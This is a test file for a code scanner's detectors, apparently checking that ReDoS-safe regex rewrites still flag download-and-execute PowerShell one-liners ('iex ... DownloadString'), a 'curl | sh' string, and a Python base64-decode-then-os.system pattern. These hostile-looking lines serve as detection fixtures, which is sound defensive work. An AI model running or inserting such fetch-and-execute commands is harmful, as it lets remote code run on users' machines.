// The source detectors' rewritten patterns and hand reader answer what the expressions they replace answered (the inputs
// that made those backtrack run in a child under a deadline: test/redos/rewritten-patterns.test.ts).
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../../core/random.js';
import { assignedName, fetchPipeRun, pyExecDecoded } from './detectors-text.js';

const texts = (alphabet: readonly string[], count: number, maxLength: number, seed: number): string[] => {
  const next = mulberry32(seed);
  return Array.from({ length: count }, () => Array.from({ length: Math.floor(next() * (maxLength + 1)) }, () => alphabet[Math.floor(next() * alphabet.length)] as string).join(''));
};

describe('assignedName', () => {
  const reference = (statement: string): string | undefined => /([A-Za-z_$][\w$]*)\s*[:=]\s*[^=:]*$/.exec(statement)?.[1];

  it('captures what the expression captured, on random statements', () => {
    const alphabet = ['a', 'Z', '_', '$', '1', '9', ' ', '\t', '\u00a0', '\u2028', '\n', ':', '=', ';', '(', ')', '.', '"', 'é'];
    for (const s of texts(alphabet, 20_000, 24, 7)) expect(assignedName(s), JSON.stringify(s)).toBe(reference(s));
  });

  it('reads the statements near the edges', () => {
    for (const s of ['x = 1', 'const cmd = "curl | sh"', 'a: b', '9x = 1', '99 = 1', '$ =', ' = x', '', 'no assignment', 'a = b = c', 'a = 1; b :  c', 'x=\n\ty', 'x\u00a0= y'])
      expect(assignedName(s), JSON.stringify(s)).toBe(reference(s));
  });
});

describe('a download run by PowerShell', () => {
  const hits = (code: string): string[] => fetchPipeRun({ code, path: 'install.ps1' } as Parameters<typeof fetchPipeRun>[0]).map((h) => h.text);

  it('finds iex over a web client with up to two parentheses and white space around them', () => {
    for (const code of [
      'iex (New-Object Net.WebClient).DownloadString("http://x")',
      'IEX((New-Object System.Net.WebClient).DownloadString("http://x"))',
      'Invoke-Expression ( ( iwr http://x ).Content)',
      'iex\t\t(\n(iwr http://x))',
    ])
      expect(hits(code), code).toHaveLength(1);
    expect(hits('iex (((New-Object Net.WebClient).DownloadString("http://x")))')).toEqual([]);
  });
});

describe('a Python helper that decodes and returns', () => {
  const hits = (code: string): number => pyExecDecoded({ code, path: 'a.py' } as Parameters<typeof pyExecDecoded>[0]).length;

  it('is an alias whatever white space its body lines start with', () => {
    expect(hits('import base64, os\ndef d(s):\n\t\n    return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
    expect(hits('import base64, os\n  def d(s):\n  \t return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
  });
});
